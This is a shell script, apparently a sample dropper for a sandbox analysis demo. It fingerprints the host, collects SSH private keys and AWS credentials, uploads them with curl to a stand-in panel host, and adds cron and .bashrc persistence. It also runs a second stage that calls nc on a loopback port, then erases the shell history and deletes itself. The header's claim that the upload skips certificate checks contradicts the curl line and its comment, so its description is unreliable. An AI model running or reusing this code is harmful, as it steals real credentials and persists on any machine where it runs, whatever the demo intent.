#!/bin/sh
# A harmless imitation of a Linux dropper, for the quick-start demo. Inside the sandbox it:
# fingerprints the system, steals the decoy SSH key and cloud credentials, stages them in an
# archive and uploads it to its web panel (cdn-update.example.test: a .test name resolves nowhere
# in the real DNS; in the sandbox the DNS sinkhole answers it and sandtrace catches the request,
# over HTTPS without checking the certificate, as droppers do, so the report shows it), installs cron and shell-rc persistence, drops and runs a second stage
# from /tmp, which tries to reach its "C2" (127.0.0.1:4444, the sandbox's own loopback, nothing
# listens), clears its history and deletes itself. Never run it outside a sandbox.
uname -a > /dev/null
id > /dev/null
cat /etc/passwd > /dev/null
ps aux > /dev/null 2>&1

mkdir -p /tmp/.cache
for f in "$HOME/.ssh/id_rsa" /root/.ssh/id_rsa "$HOME/.aws/credentials" /root/.aws/credentials; do
  [ -r "$f" ] && cat "$f" >> /tmp/.cache/loot.txt
done
tar czf /tmp/.cache/loot.tgz -C /tmp/.cache loot.txt 2>/dev/null

# exfiltration to the panel over HTTPS, certificate checked as any client checks it
curl -s -m 5 -A 'Mozilla/5.0 (X11; Linux x86_64)' --data-binary @/tmp/.cache/loot.tgz \
  "https://cdn-update.example.test/panel/gate.php?id=$(hostname)" > /dev/null 2>&1

# persistence
echo '*/5 * * * * root /tmp/.cache/update >/dev/null 2>&1' > /etc/cron.d/update 2>/dev/null
echo '/tmp/.cache/update &' >> "$HOME/.bashrc"

# second stage
cat > /tmp/.cache/update <<'STAGE2'
#!/bin/sh
nc -w 1 127.0.0.1 4444 < /dev/null
STAGE2
chmod +x /tmp/.cache/update
/tmp/.cache/update

# cover tracks
rm -f "$HOME/.bash_history"
rm -f "$0"
